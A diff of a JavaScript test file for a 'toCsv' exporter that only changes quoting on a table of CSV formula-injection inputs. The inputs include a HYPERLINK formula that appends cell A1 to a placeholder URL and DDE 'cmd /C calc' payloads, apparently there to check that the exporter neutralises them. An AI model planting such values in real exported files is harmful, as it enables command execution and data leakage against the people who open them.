@@ -56,9 +56,9 @@ describe('toCsv', () => {
 
   test.each([
     ['=HYPERLINK("https://example.invalid/?"&A1,"open")'],
-    ['+1+cmd|\' /C calc\'!A0'],
-    ['-2+3+cmd|\' /C calc\'!A0'],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ["+1+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
     ['\t=1+1'],
     ['\r=1+1'],
     ['\uFF1D1+1'],
